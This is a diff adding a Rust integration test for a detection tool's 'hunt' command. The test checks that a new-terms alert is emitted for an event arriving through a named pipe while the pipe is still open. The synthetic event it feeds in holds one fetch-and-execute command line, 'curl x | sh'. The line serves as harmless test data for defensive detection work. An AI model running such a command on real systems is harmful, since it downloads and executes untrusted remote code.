@@ -476,3 +476,40 @@ fn kill_dash_9_keeps_alerted_terms_and_the_lock_names_the_owner() {
     assert_eq!(docs.len(), 1, "{docs:?}");
     assert_eq!(docs[0]["process"]["command_line"], "sh -c uname");
 }
+
+#[test]
+fn alerts_from_a_fifo_come_while_it_stays_open() {
+    // A named pipe is a stream like stdin: a new-terms alert must not wait for more input
+    // (or the end of it) before it is printed.
+    let dir = tempfile::tempdir().unwrap();
+    let rules = rules_dir(dir.path(), &[("b.toml", NEW_TERMS_RULE)]);
+    let fifo = dir.path().join("events.fifo");
+    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
+    assert!(made.success());
+    let state = dir.path().join("state");
+    let mut child = bin()
+        .args([
+            "hunt",
+            "--rules",
+            rules.to_str().unwrap(),
+            "--state",
+            state.to_str().unwrap(),
+            "--format",
+            "ndjson",
+            fifo.to_str().unwrap(),
+        ])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let lines = line_reader(child.stdout.take().unwrap());
+    let mut w = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
+    writeln!(w, "{}", shell_event(1, "sh -c 'curl x | sh'")).unwrap();
+    w.flush().unwrap();
+    let alert = lines
+        .recv_timeout(Duration::from_secs(30))
+        .expect("the alert while the fifo is still open");
+    assert!(alert.contains("kibana.alert.new_terms"), "{alert}");
+    drop(w);
+    assert_eq!(child.wait().unwrap().code(), Some(1));
+}
